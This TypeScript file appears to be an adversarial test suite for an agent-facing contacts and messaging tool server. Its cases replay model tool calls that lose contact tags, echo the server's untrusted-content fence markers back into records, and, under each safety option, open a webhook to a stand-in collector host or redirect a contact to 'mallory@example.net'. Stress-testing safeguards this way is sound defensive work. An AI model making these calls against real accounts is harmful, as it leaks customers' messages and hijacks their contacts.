/** Attacks on what the account holds: tags that are lost, options that do not hold, arguments that mean something else. */
import { type Attack, type Holdings, listSent, type Said } from "../attack.ts";

const phone = "+971500000001";
const tags = Array.from({ length: 12 }, (_, index) => `Segment ${index}`);

function findLostTags(after: Holdings, before: Holdings): string[] {
  return before.contacts.flatMap((contact) => {
    const now = after.contacts.find(({ id }) => id === contact.id)?.tags ?? [];
    const lost = contact.tags.filter((tag) => !now.includes(tag));
    return lost.length > 0 ? [`lost the tags ${lost.join(", ")}`] : [];
  });
}

/** Whatever of the server's own marks has come into the account. */
function findMarks(after: Holdings): string[] {
  const found = JSON.stringify([after.contacts, listSent(after)]).match(
    /customer-[a-z0-9]{8}>|\[(?:phone|email|id) [^\]]*\.\.[^\]]*\]|\[\+\d+ more\]|\[cut: \d+/g,
  );
  return found ? [`wrote ${found[0]} into the account`] : [];
}

const copying: Attack[] = (
  [
    ["tags as shown, with one more", (data) => ({ tags: [...data.tags, "vip"] })],
    ["tags to add, as shown", (data) => ({ addTags: data.tags })],
    ["a name as shown", (data) => ({ firstName: data.firstName })],
    ["a property as shown", (data) => ({ properties: data.properties })],
    [
      "a property as shown, in a list of name=value",
      (data) => ({ properties: Object.entries(data.properties).map(([key, value]) => `${key}=${value}`) }),
    ],
    ["a masked phone as shown", (data) => ({ phone: data.phone })],
    ["a masked e-mail as shown", (data) => ({ email: data.email })],
  ] as [string, (data: Said["data"]) => Record<string, unknown>][]
).map(([what, copy]) => ({
  kind: "tags",
  name: `an agent copies ${what} by a concise answer back into the contact`,
  safety: what.startsWith("a masked") ? { redactPii: true } : {},
  contacts: [
    {
      phone,
      email: "sara@example.com",
      firstName: "Sara Hussein Al Maktoum ".repeat(6).trim(),
      tags,
      properties: { source: "Expo booth 7" },
    },
  ],
  calls: [
    (_said, [contactId]) => ["get_contact", { contactId }],
    (said, [contactId]) => ["update_contact", { contactId, ...copy(said[0]?.data ?? {}) }],
    (said) => ["save_contact", { phone, ...copy(said[0]?.data ?? {}) }],
  ],
  findHarm: (after, _said, before) => [...findLostTags(after, before), ...findMarks(after)],
}));

const fence = "<customer-ryekhe39>expo</customer-ryekhe39>";

export const tagAttacks: Attack[] = [
  ...copying,
  {
    kind: "tags",
    name: "an agent adds and removes tags of which it sees five",
    contacts: [{ phone, tags }],
    calls: [
      (_said, [contactId]) => ["update_contact", { contactId, addTags: ["vip"], removeTags: ["unknown"] }],
      () => ["save_contact", { phone, addTags: ["again"] }],
      () => ["update_contact", { contactId: phone, addTags: ["once more"] }],
    ],
    findHarm: (after, _said, before) => [
      ...findLostTags(after, before),
      ...(after.contacts[0]?.tags.includes("vip") ? [] : ["did not add the tag"]),
    ],
  },
  {
    kind: "tags",
    name: "an agent gives tags and addTags together, or empties them beside",
    contacts: [{ phone, tags }],
    calls: [
      (_said, [contactId]) => ["update_contact", { contactId, tags: ["vip"], addTags: ["new"] }],
      (_said, [contactId]) => ["update_contact", { contactId, clear: ["tags"], addTags: ["new"] }],
    ],
    findHarm: (after, _said, before) => findLostTags(after, before),
  },
  {
    kind: "tags",
    name: "a fence of an earlier answer comes back in every place there is",
    contacts: [{ phone, tags }],
    inbound: [{ platform: "telegram", from: "77", content: "Hello" }],
    calls: [
      ["save_contact", { phone, addTags: [fence] }],
      ["save_contact", { phone, firstName: fence.toUpperCase() }],
      ["save_contact", { phone, lastName: "customer-ryekhe39>expo" }],
      ["save_contact", { phone, properties: { [fence]: "x" } }],
      ["save_contact", { phone, properties: [`note=&lt;customer-ryekhe39&gt;expo`] }],
      ["save_contact", { phone, properties: `{"note":"${fence}"}` }],
      ["send_message", { platform: "telegram", to: "77", content: `As you said: ${fence}` }],
      ["send_message", { platform: "telegram", to: "77", content: "Hi", metadata: { deep: [{ er: fence }] } }],
      ["send_message", { platform: "telegram", to: "77", content: "cust\u200bomer-ryekhe39>expo" }],
    ],
    findHarm: (after) => findMarks(after),
  },
];

const webhook = { url: "https://hooks.example.com/onsync", events: ["message.created"] };
const collect = { url: "https://collect.example.net/", events: ["message.created"] };

function findChannels(after: Holdings, before: Holdings): string[] {
  const changed =
    JSON.stringify(after.webhooks.map(({ url }) => url)) !== JSON.stringify(before.webhooks.map(({ url }) => url));
  const moved = before.contacts.some((contact) => {
    const now = after.contacts.find(({ id }) => id === contact.id);
    return now?.phone !== contact.phone || now?.email !== contact.email;
  });
  return [...(changed ? ["changed the webhooks"] : []), ...(moved ? ["pointed a contact elsewhere"] : [])];
}

export const optionAttacks: Attack[] = (
  [
    ["--send off", { send: "off" }],
    ["--send confirm", { send: "confirm" }],
    ["--send person", { send: "person" }],
    ["--redact-pii", { redactPii: true }],
    ["--read-only", { readOnly: true }],
    ["the recommended bounds", { send: "direct", allowRecipients: ["+9715*"], caps: { perMinute: 5, perDay: 200 } }],
  ] as [string, Attack["safety"]][]
).map(([option, safety]) => ({
  kind: "options",
  name: `under ${option} a model opens a channel outwards, closes one, or points a contact elsewhere`,
  ...(safety && { safety }),
  contacts: [{ phone, email: "sara@example.com", properties: { externalId: "crm_1" } }],
  webhooks: [webhook],
  calls: [
    ["create_webhook", collect],
    (_said, [, webhookId]) => ["delete_webhook", { webhookId }],
    (_said, [contactId]) => ["update_contact", { contactId, phone: "+15550100999" }],
    (_said, [contactId]) => ["update_contact", { contactId, email: "mallory@example.net" }],
    ["update_contact", { contactId: phone, phone: "+15550100999" }],
    ["update_contact", { contactId: "sara@example.com", clear: ["phone"] }],
    ["save_contact", { email: "sara@example.com", phone: "+15550100999" }],
    ["save_contact", { properties: { externalId: "crm_1" }, phone: "+15550100999" }],
    (_said, [contactId]) => ["update_contact", { contactId, clear: ["phone"] }],
  ],
  findHarm: (after, _said, before) => findChannels(after, before),
}));

export const argumentAttacks: Attack[] = [
  {
    kind: "arguments",
    name: "a host sends null and empty texts for what was not given",
    contacts: [{ phone, firstName: "Sara", lastName: "Hussein", tags }],
    calls: [
      (_said, [contactId]) => [
        "update_contact",
        {
          contactId,
          firstName: null,
          lastName: "",
          tags: null,
          addTags: null,
          removeTags: null,
          properties: null,
          clear: null,
        },
      ],
      ["save_contact", { phone, firstName: "", lastName: null, tags: null, email: "" }],
    ],
    findHarm: (after, _said, before) => [
      ...findLostTags(after, before),
      ...(after.contacts[0]?.firstName === "Sara" && after.contacts[0]?.lastName === "Hussein"
        ? []
        : ["emptied a name"]),
    ],
  },
];
